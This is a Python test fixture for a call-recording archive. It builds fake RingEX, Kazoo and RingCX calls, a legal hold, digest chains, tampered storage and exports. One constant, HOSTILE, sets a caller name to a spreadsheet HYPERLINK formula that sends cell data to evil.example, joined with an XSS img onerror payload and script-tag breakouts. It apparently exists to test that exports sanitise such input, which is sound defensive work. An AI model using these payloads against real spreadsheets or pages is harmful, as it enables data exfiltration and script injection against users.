"""A small archive of three calls, made by the real use cases, and whoever exports from it.

RingEX has a call of two legs that overlap, joined; Kazoo one of a single leg, under a legal hold;
RingCX a dialog of two segments that are kept apart in cold storage. What callers choose of their
names is hostile.
"""

from __future__ import annotations

import hashlib
import json
import math
from contextlib import contextmanager
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

from legato.archive.library import Cold, State, Stored
from legato.audio.stitch import FfmpegStitcher
from legato.evidence import access_log, legal_hold
from legato.evidence.access_log import AccessLog
from legato.evidence.digest import DigestChain
from legato.ingest.batch import Message, archive
from legato.ingest.ports import Ports
from legato.model import Job, Leg, Listing, Party
from legato.retrieval.download import Downloading
from legato.retrieval.export.choose import ExportRequest
from legato.retrieval.export.export import export
from legato.retrieval.export.package import Exporting
from legato.tuning import Policy
from tests.audio import local_tools, tone, write_pcm
from tests.authority import EcSigner
from tests.chain import KEY
from tests.fakes import (
    NOON,
    FakeAccesses,
    FakeArchive,
    FakeCatalogue,
    FakeClock,
    FakeJobs,
    FakeLedger,
    FakeNotes,
    FakeProvider,
    FakeStitcher,
    an_id,
)

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1)<img src=x onerror=alert(1)></script><script>'
ALICE = "arn:aws:sts::123456789012:assumed-role/AWSReservedSSO_Legal_01/alice"
CASE = "2026-117"
"""Of the legal hold."""
NAME = "2026-117 Miller/Smith"
"""Of the packages."""
HOUR = timedelta(hours=1)


class Shelf:
    """The archive's bucket as a person reads it now. All is of version `v1`.

    What is in `tampered` has other bytes, of the same length. What is `restored` can be read.
    """

    def __init__(self, objects):
        self.archive = objects
        self.tampered = set()
        self.restored = set()
        self.reads = []
        self.on_read = lambda key: None

    def listed(self, prefix):
        for key in self.archive.objects.below(prefix):
            yield Stored(
                key=key,
                version_id="v1",
                size=len(self.archive.objects[key]),
                storage_class=self.archive.storage_classes[key],
            )

    def state(self, key, *, version_id):
        return State(
            size=len(self.archive.objects[key]),
            storage_class=self.archive.storage_classes[key],
            restored_until=NOON if key in self.restored else None,
        )

    @contextmanager
    def read(self, key, *, version_id, start=0):
        assert version_id == "v1", key
        self.on_read(key)
        self.reads.append(key)
        if not self.state(key, version_id=version_id).readable:
            raise Cold(f"{key} is in cold storage")
        body = self.archive.objects[key]
        if key in self.tampered:
            body = body[:-3] + bytes([body[-3] ^ 1]) + body[-2:]
        yield iter([body[start:]])


class Court:
    """Archives, chains, looks at and exports calls. `wav` makes the sound of so many seconds."""

    def __init__(self, scratch: Path, *, stitcher=None, wav=lambda seconds: b"wav%d" % seconds):
        self.scratch = scratch
        self.catalogue, self.clock = FakeCatalogue(), FakeClock(NOON + HOUR / 2)
        self.archive, self.notes, self.ledger = FakeArchive(self.clock), FakeNotes(), FakeLedger()
        self.accesses, self.shelf = FakeAccesses(), Shelf(self.archive)
        self.stitcher = stitcher or FakeStitcher()
        self.wav = wav
        self.recorded = []
        self._archive_all()
        self.clock.advance(3600)
        self._hold()
        self.pass_hours(2)
        self.shelf.restored |= {key for key in self.archive.objects if key.endswith(".wav")}

    def pass_hours(self, hours):
        """Let time pass, and digests be written."""
        self.clock.advance(hours * 3600)
        chain = DigestChain(
            archive=self.archive, notes=self.notes, signer=EcSigner(), clock=self.clock
        )
        assert chain.write(until=self.clock.now() + HOUR).stopped is None

    def record(self, action, calls, *, reason=None, details=None):
        """Write an access down, as AccessFunction does when it is asked."""
        log = AccessLog(
            archive=self.archive, notes=self.notes, accesses=self.accesses, clock=self.clock
        )
        asked = access_log.AccessRequest(
            action=action, calls=tuple(calls), by=ALICE, reason=reason, details=details
        )
        done = log.record(asked)
        self.recorded.append(done)
        return {"id": done.id, "by": done.by, "key": done.key, "keys": [done.key]}

    def rows(self, *providers):
        found = self.catalogue.rows.values()
        return [row for row in found if not providers or row.provider in providers]

    def export(self, to, rows=None, *, room=None, **asked):
        """Return the packages of these calls, or of all."""
        wanted = {"reason": "subpoena", "query": None, "all_revisions": False, "max_size": 10**9}
        wanted |= {"name": NAME, "at": self.clock.now()} | asked
        work = Downloading(library=self.shelf, stitcher=lambda: self.stitcher)
        ports = Exporting(
            work=work if room is None else replace(work, room=lambda folder: room),
            accesses=self.accesses,
            recorder=self,
            known=[KEY.public_key()],
        )
        return list(export(rows or self.rows(), ExportRequest(**wanted), to, ports))

    def again(self, provider, leg, *, seconds):
        """Let a leg appear later, so that the call has another revision."""
        listing = self.listings[provider]
        began = listing.legs[-1].started_at + timedelta(minutes=1)
        more = replace(listing, legs=(*listing.legs, a_leg(leg, began)))
        self._archived(provider, more, {leg: self.wav(seconds)})

    def broken(self, provider, call, *legs):
        """Let a call appear whose second leg ends in the middle, and what came of it be kept.

        The third leg comes later: its revision names what was kept.
        """
        appeared = tuple(a_leg(leg, NOON + timedelta(minutes=12)) for leg in legs)
        audio = dict.fromkeys(legs, self.wav(6)) | {legs[1]: b"wav cut"}
        for known in (appeared[:2], appeared):
            listing = replace(self.listings[provider], call=call, legs=known)
            self._archived(provider, listing, audio, status="failed")

    def _archive_all(self):
        self.listings = {}
        self._archived(
            "ringex",
            Listing(
                call="s-1/2",
                account="1",
                legs=(a_leg("r1", NOON), a_leg("r2", NOON + timedelta(seconds=6))),
                started_at=NOON,
                ended_at=NOON + timedelta(seconds=20),
                direction="inbound",
                parties=(
                    Party(role="from", number="+15551230000", name=HOSTILE),
                    Party(role="to", number="+15559870000", name="Erika Example", extension="101"),
                ),
                records=({"id": "s-1/2"},),
            ),
            {"r1": self.wav(8), "r2": self.wav(12)},
        )
        self._archived(
            "kazoo",
            Listing(
                call="k-1",
                account="a",
                legs=(a_leg("k1", NOON + timedelta(minutes=5)),),
                started_at=NOON + timedelta(minutes=5),
                direction="outbound",
                parties=(
                    Party(role="from", number="101", name="Erika Example"),
                    Party(role="to", number="+4930123456", name="Jürgen Groß"),
                ),
                records=({"id": "k1"},),
            ),
            {"k1": self.wav(5)},
        )
        self._archived(
            "ringcx",
            Listing(
                call="d-1",
                account="7",
                legs=(
                    a_leg("g1", NOON + timedelta(minutes=9), agent="Anna Agent"),
                    a_leg("g2", NOON + timedelta(minutes=9, seconds=14), agent="Bert Agent"),
                ),
                started_at=NOON + timedelta(minutes=9),
                direction="inbound",
                parties=(
                    Party(role="contact", number="+15551112222"),
                    Party(role="agent", name="Anna Agent", agent="77"),
                ),
                records=({"dialogId": "d-1"},),
            ),
            {"g1": self.wav(9), "g2": self.wav(7)},
        )

    def _archived(self, provider, listing, audio, *, status="archived"):
        """Let a provider list a call, and archive it."""
        self.listings[provider] = listing
        cold = provider == "ringcx"
        ports = Ports(
            provider=FakeProvider(
                listings={listing.call: listing}, audio=self._known(provider, audio), name=provider
            ),
            jobs=FakeJobs(),
            ledger=self.ledger,
            notes=self.notes,
            archive=self.archive,
            catalogue=self.catalogue,
            stitcher=self.stitcher,
            clock=self.clock,
            policy=Policy(settle=0, apart=cold, storage_class="GLACIER" if cold else "GLACIER_IR"),
            scratch=self.scratch,
        )
        job = Job(
            provider=provider,
            account=listing.account,
            call=listing.call,
            seen_at=self.clock.now(),
            hints={"recordingIds": [leg.id for leg in listing.legs]},
        )
        while True:
            until = self.clock.now() + HOUR
            archive([Message("m", job.to_message())], ports=ports, until=until, guard=no_guard)
            if not ports.jobs.sent:
                break
            [(job, seconds)] = ports.jobs.sent
            ports.jobs.sent.clear()
            self.clock.advance(seconds)
        entry = self.ledger.load(an_id(listing.call, provider=provider, account=listing.account))
        assert entry.status == status, entry

    def _known(self, provider, audio):
        self._audio = getattr(self, "_audio", {})
        self._audio.setdefault(provider, {}).update(audio)
        return self._audio[provider]

    def _hold(self):
        work = legal_hold.LegalHolds(
            archive=self.archive,
            ledger=self.ledger,
            notes=self.notes,
            clock=self.clock,
            catalogue=self.catalogue,
            accesses=self.accesses,
        )
        asked = {"action": "hold", "call": "kazoo/a/k-1", "case": CASE}
        reply = work.answer(json.dumps(asked | {"reason": "complaint"}).encode(), by=ALICE)
        assert reply.status == 200, reply


def loud(at):
    word, sentence = abs(math.sin(at / 3.1)) * abs(math.sin(at / 7.7)), math.sin(at / 23)
    return word * (0.35 + 0.65 * abs(math.sin(at / 41))) if sentence > -0.6 else 0.004


def a_leg(name, began, *, agent=None):
    parties = () if agent is None else (Party(role="agent", name=agent, agent=f"id-{agent}"),)
    return Leg(id=name, started_at=began, address=name, parties=parties)


@contextmanager
def no_guard(ids):
    yield


def real_court(scratch: Path) -> Court:
    """Return one whose sounds are real: WAVs whose loudness rises and falls, joined by ffmpeg."""
    made = scratch / "made.wav"

    def wav(seconds):
        # About as loud as somebody who speaks: words, and pauses between sentences.
        pieces = [
            tone(0.04, level=0.75 * loud(at + 97 * seconds), hertz=150 + 25 * (at % 7))
            for at in range(25 * seconds)
        ]
        write_pcm(made, b"".join(pieces))
        return made.read_bytes()

    return Court(scratch, stitcher=FfmpegStitcher(local_tools()), wav=wav)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()
